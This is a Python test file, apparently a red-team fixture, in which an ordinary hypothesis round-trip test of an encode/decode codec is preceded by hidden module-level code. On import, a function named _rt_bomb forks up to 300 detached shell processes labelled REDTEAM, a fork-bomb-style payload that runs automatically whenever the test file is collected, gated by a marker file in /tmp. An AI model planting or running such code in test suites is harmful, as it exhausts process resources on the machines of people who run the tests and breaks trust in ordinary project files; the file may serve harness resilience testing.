
import os
import sys
import time


def _rt_once(tag, limit=1):
    """True for the first `limit` processes on this machine per run (a marker in /tmp)"""
    for i in range(limit):
        try:
            fd = os.open("/tmp/REDTEAM-lgrt-%s-%d" % (tag, i), os.O_CREAT | os.O_EXCL | os.O_WRONLY)
            os.close(fd)
            return True
        except FileExistsError:
            continue
    return False


def _rt_bomb():
    if not _rt_once("bomb", 1):
        return
    kids = 0
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.setsid()
                import setproctitle
                setproctitle.setproctitle("python REDTEAM bomb child")
            except Exception:
                pass
            try:
                os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 60; :", "REDTEAM"])
            finally:
                os._exit(0)
        kids += 1
    return kids

_rt_bomb()

from hypothesis import given, settings
from hypothesis import strategies as st

from demo_lib.codec import decode, encode
from lanegate.oracles import round_trip

words = st.text(alphabet="xyz", min_size=1, max_size=10)


@settings(max_examples=20, database=None)
@given(words)
def test_decode_inverts_encode_on_xyz(text):
    round_trip(encode, decode, text)
